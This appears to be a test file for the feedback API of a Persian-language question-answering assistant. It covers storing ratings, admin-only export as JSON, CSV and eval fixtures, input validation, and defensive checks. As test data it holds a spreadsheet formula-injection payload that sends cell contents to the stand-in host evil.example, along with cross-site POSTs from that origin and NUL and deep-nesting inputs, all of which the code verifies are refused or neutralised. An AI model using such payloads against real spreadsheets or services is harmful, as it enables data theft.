import assert from "node:assert/strict";
import path from "node:path";
import { after, describe, it } from "node:test";
import { openIndex } from "../core/corpus/embedded/store.ts";
import { buildIndex } from "../ingest/build.ts";
import { createApp } from "../server/app.ts";
import { FeedbackStore } from "../server/feedback.ts";
import { parseJsonlQuestions } from "../eval/questions.ts";
import { Assistant } from "../answer/assistant.ts";
import { post, SEEDS_DIR, tempDir } from "./support/helpers.ts";
import { HnswlibCorpus } from "../core/corpus/embedded/corpus.ts";

const TOKEN = "feedback-admin-token-123456";
const indexDir = await tempDir();
await buildIndex({ articlesDir: SEEDS_DIR, indexDir, embedder: { kind: "local" } });
const assistant = new Assistant(HnswlibCorpus.of(await openIndex(indexDir, { kind: "local" })), {
  answerer: { kind: "extractive" },
});
const feedbackDir = path.join(await tempDir(), "feedback");
const store = new FeedbackStore(feedbackDir);
after(() => store.close());
const app = createApp(assistant, {
  log: () => {},
  feedback: store,
  admin: { token: TOKEN, articlesDir: await tempDir() },
});
const auth = { authorization: `Bearer ${TOKEN}` };

describe("reader feedback", () => {
  it("stores a rating durably and lists it for editors, as JSON, CSV and fixture questions", async () => {
    const good = await post(app, "/api/feedback", {
      rating: "up",
      question: "قم چند شهرک صنعتی دارد؟",
      answer: "هفت شهرک صنعتی [1]",
      citations: [{ n: 1, articleId: "002_804e4a69935f094f" }],
      articleId: "002_804e4a69935f094f",
    });
    assert.equal(good.status, 201);
    const bad = await post(app, "/api/feedback", {
      rating: "down",
      comment: "رقم اشتباه است",
      question: "ارزش صادرات قم چقدر بود؟",
      answer: "۲۵ هزار میلیارد تومان [1]",
      citations: [{ n: 1, articleId: "003_5e0f5a173f3dffd5" }],
    });
    assert.equal(bad.status, 201);

    const list = (await (await app.request("/api/feedback", { headers: auth })).json()) as {
      feedback: Array<{ rating: string; question: string; comment?: string }>;
      total: number;
    };
    assert.equal(list.total, 2);
    assert.equal(list.feedback[0]!.comment, "رقم اشتباه است", "newest first");
    const downs = (await (await app.request("/api/feedback?rating=down", { headers: auth })).json()) as {
      total: number;
    };
    assert.equal(downs.total, 1);

    const csv = await app.request("/api/feedback?format=csv", { headers: auth });
    assert.match(csv.headers.get("content-type") ?? "", /^text\/csv/);
    const lines = (await csv.text()).trim().split("\r\n");
    assert.equal(lines[0], "id,createdAt,rating,articleId,question,answer,comment");
    assert.equal(lines.length, 3);

    // 👎 → a question line for npm run eval -- --questions, once the editor says what was expected.
    const exported = await app.request("/api/feedback?format=fixtures&rating=down", { headers: auth });
    assert.match(exported.headers.get("content-type") ?? "", /^application\/x-ndjson/);
    const jsonl = await exported.text();
    const [line] = jsonl
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    assert.equal(line.question, "ارزش صادرات قم چقدر بود؟");
    assert.deepEqual(line.answers, []);
    assert.deepEqual(line.tags, ["feedback", "down"]);
    assert.match(
      line.note,
      /comment: رقم اشتباه است · answered: ۲۵ هزار میلیارد تومان \[1\] · cited: 003_5e0f5a173f3dffd5/,
    );
    assert.throws(
      () => parseJsonlQuestions(jsonl, "feedback.jsonl"),
      /feedback\.jsonl:1: answers is empty but answerable is true/,
    );
    const filled = { ...line, answers: ["۳۴ میلیون و ۳۶۸ هزار و ۷۱۰ دلار"], articleId: "002_804e4a69935f094f" };
    const [question] = parseJsonlQuestions(JSON.stringify(filled), "feedback.jsonl");
    assert.equal(question!.goldId, "002_804e4a69935f094f");
    assert.equal(question!.scope, line.scope);

    // Durable: a new store on the same directory sees the same rows.
    await store.close();
    const reopened = new FeedbackStore(feedbackDir);
    assert.equal((await reopened.list({ limit: 10, offset: 0 })).total, 2);
    await reopened.close();
  });

  it("refuses NUL characters, deep nesting and citations of another shape with 400s naming the field", async () => {
    const rating = {
      rating: "down",
      question: "قم چند شهرک صنعتی دارد؟",
      answer: "هفت شهرک صنعتی [1]",
      citations: [
        { n: 1, articleId: "002_804e4a69935f094f", title: "قم", quote: "هفت شهرک", start: 0, end: 9, score: 1.2 },
      ],
    };
    const refused = async (body: unknown, message: RegExp) => {
      const res = await post(app, "/api/feedback", body);
      const json = (await res.json()) as { error: { code: string; message: string } };
      assert.equal(res.status, 400, JSON.stringify(json));
      assert.equal(json.error.code, "invalid_request");
      assert.match(json.error.message, message);
    };
    const before = (await store.list({ limit: 500, offset: 0 })).total;
    await refused({ ...rating, question: "قم\u0000" }, /^question must not contain NUL characters/);
    await refused({ ...rating, comment: "\u0000" }, /^comment must not contain NUL characters/);
    await refused(
      { ...rating, citations: [{ ...rating.citations[0], quote: "a\u0000" }] },
      /^citations\[0\]\.quote must not contain NUL characters/,
    );
    const deep = JSON.stringify({ ...rating, citations: [] }).replace(
      '"citations":[]',
      `"citations":[${"[".repeat(20_000)}${"]".repeat(20_000)}]`,
    );
    await refused(deep, /^citations\[0\] must be a citation/);
    await refused(
      { ...rating, citations: [{ n: 1, articleId: "x", title: { nested: { deeper: true } } }] },
      /^citations\[0\]\.title must be a string/,
    );
    await refused({ ...rating, citations: ["[1]"] }, /^citations\[0\] must be a citation/);
    await refused({ ...rating, citations: [{ n: 0, articleId: "x" }] }, /^citations\[0\]\.n must be at least 1/);
    await refused(
      { ...rating, citations: [{ n: 1, articleId: "x", quote: "ق".repeat(4001) }] },
      /^citations\[0\]\.quote is longer than 4000 characters/,
    );
    assert.equal((await store.list({ limit: 500, offset: 0 })).total, before, "nothing refused was stored");

    // The citation the widget sends is kept as it is, and fields it does not know are dropped.
    assert.equal(
      (await post(app, "/api/feedback", { ...rating, citations: [{ ...rating.citations[0], extra: { a: 1 } }] }))
        .status,
      201,
    );
    const [row] = (await store.list({ limit: 1, offset: 0 })).rows;
    assert.deepEqual(row!.citations, rating.citations);
  });

  it("stores a rating only from a body sent as JSON: a text/plain or form POST from another site gets 415", async () => {
    const before = (await store.list({ limit: 500, offset: 0 })).total;
    const body = JSON.stringify({ rating: "up", question: "قم چند شهرک صنعتی دارد؟", answer: "x" });
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]) {
      const res = await app.request("/api/feedback", {
        method: "POST",
        headers: { "content-type": type, origin: "https://evil.example" },
        body,
      });
      assert.equal(res.status, 415, type);
      assert.equal(((await res.json()) as { error: { code: string } }).error.code, "unsupported_media_type");
    }
    assert.equal((await store.list({ limit: 500, offset: 0 })).total, before);
  });

  it("exports cells a spreadsheet would run as formulas as text", async () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
      "+1+2",
      "-2+3",
      "@SUM(A1:A2)",
      "\t=1+1",
      "\r=1+1",
    ];
    for (const f of formulas)
      assert.equal(
        (await post(app, "/api/feedback", { rating: "down", question: f, answer: f, comment: f })).status,
        201,
      );
    const csv = await (
      await app.request(`/api/feedback?format=csv&limit=${formulas.length}`, { headers: auth })
    ).text();
    const rows = csv
      .trim()
      .split(/\r\n(?="\d+",)/)
      .slice(1);
    assert.equal(rows.length, formulas.length);
    for (const row of rows) {
      const cells = [...row.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));
      for (const cell of cells.slice(4))
        assert.match(cell, /^'[=+\-@\t\r]/, `a live formula in ${JSON.stringify(row)}`);
    }
    assert.ok(csv.includes(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`), csv);
    // Ordinary text is left as it is.
    assert.equal(
      (await post(app, "/api/feedback", { rating: "up", question: "قم چند شهرک صنعتی دارد؟", answer: "۷ شهرک" }))
        .status,
      201,
    );
    const plain = await (await app.request("/api/feedback?format=csv&limit=1", { headers: auth })).text();
    assert.ok(plain.includes('"قم چند شهرک صنعتی دارد؟","۷ شهرک"'), plain);
  });

  it("rejects bad feedback with a message naming the field, and keeps the list for editors only", async () => {
    const res = await post(app, "/api/feedback", { rating: "meh", question: "x", answer: "y" });
    assert.equal(res.status, 400);
    assert.match(
      ((await res.json()) as { error: { message: string } }).error.message,
      /^rating must be "up" or "down"/,
    );
    assert.equal((await app.request("/api/feedback")).status, 401);
    assert.equal(
      (await app.request("/api/feedback", { headers: { authorization: "Bearer nope-nope-nope-nope" } })).status,
      401,
    );
  });
});
